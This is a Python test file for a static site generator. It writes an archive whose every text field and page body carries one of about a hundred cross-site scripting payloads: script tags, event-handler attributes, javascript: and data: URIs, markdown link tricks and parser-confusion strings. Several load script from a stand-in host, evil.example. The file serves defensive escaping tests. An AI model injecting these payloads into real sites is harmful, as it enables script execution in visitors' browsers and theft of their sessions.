"""Attempts to have a reader's browser run what a story says."""

from __future__ import annotations

from pathlib import Path

from tests.conftest import PICTURE, Site

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1) src=javascript:alert(1)></video>",
    "<audio><source src=javascript:alert(1)><track src=javascript:alert(1)></audio>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    '<td style="text-align:left;background:url(//evil.example)">x</td>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<img srcset='javascript:alert(1) 2x, data:x 3x' src=data:image/svg+xml,x>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "</p></div></article></body><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'\"--></style></script><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    "]]>]]&gt;<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '![x](x"onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "x {: onclick=alert(1) }",
    "# x {: onclick=alert(1) href=javascript:alert(1) }",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '*[x]: "><script>alert(1)</script>\n\nx',
    "```<script>\n<script>alert(1)</script>\n```",
    "<div markdown=1>\n<script>alert(1)</script>\n[x](javascript:alert(1))\n</div>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)//<!--",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><caption><svg><style></caption><img src=x onerror=alert(1)></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<style>p{animation:x}@keyframes x{}</style><p onanimationstart=alert(1)>x</p>",
    "<p tabindex=1 onfocus=alert(1) autofocus>x</p>",
    "<a href=x onpointerenter=alert(1)>x</a>",
    "<a href='https://x.example' ping='//evil.example/p' target=_blank>x</a>",
    "<a href='//evil.example\\@x.example'>x</a>",
    "<a href='\\x01java\\tscript:alert(1)'>x</a>",
    "<map name=x><area shape=default href=javascript:alert(1)></map>",
    "<isindex action=javascript:alert(1) type=image>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<applet code=x></applet><bgsound src=javascript:alert(1)>",
    "<p id=location name=cookie>x</p><form id=document><input name=body></form>",
    "<slot onslotchange=alert(1)></slot><x-y is=script>alert(1)</x-y>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<script>//<!--<script></script>--></script><img src=x onerror=alert(1)>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+alert(1)'>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '<https://x.example/"onmouseover=alert(1)>',
    "[x](https://x.example \"t' onmouseover='alert(1)\")",
    "| x |\n| --- |\n| <img src=x onerror=alert(1)> |",
)

TEXT_HEADERS = (
    "Title",
    "Category",
    "Author",
    "Dek",
    "Summary",
    "Source",
    "Story",
    "Dateline",
    "Image_alt",
    "Image_caption",
    "Image_credit",
    "Mood",
)


def hostile_archive(folder: Path) -> Site:
    """An archive in which everything that can be written is one of these attempts."""
    site = Site(folder)
    site.write("images/a.svg", PICTURE)
    for number, payload in enumerate(PAYLOADS):
        line = " ".join(payload.split())
        text = dict.fromkeys(TEXT_HEADERS, f"{line} {number}")
        site.write(
            f"{number:03}.md",
            "\n".join(f"{name}: {value}" for name, value in text.items())
            + f"\nDate: 2024-11-01\nImage: images/a.svg\nTags: {number} {line.replace(';', '')};\n"
            + f"Correction: 2024-11-02: {line}\n\nStory {number}.\n\n{payload}\n",
        )
        site.write(
            f"pages/p{number:03}.md", f"Title: {line} {number}\nSlug: p{number}\n\n{payload}\n"
        )
    name = "<script>alert(1)</script>"
    built = site.build(
        SITENAME=name, SITESUBTITLE=name, FEED_MAX_ITEMS=1000, MENUITEMS=[(name, name)]
    )
    assert built.errors == []
    return site
